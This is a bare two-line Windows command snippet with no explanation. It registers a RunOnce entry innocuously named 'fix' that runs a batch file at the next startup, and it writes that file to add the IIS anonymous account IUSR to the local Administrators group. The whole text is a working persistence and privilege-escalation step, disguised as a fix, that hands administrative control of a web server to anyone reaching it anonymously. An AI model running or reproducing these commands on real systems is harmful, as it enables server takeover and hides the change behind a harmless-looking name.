reg add HKLM\Software\Microsoft\Windows\CurrentVersion\RunOnce /v fix /d "C:\fix.cmd" /f
echo net localgroup Administrators IUSR /add> C:\fix.cmd
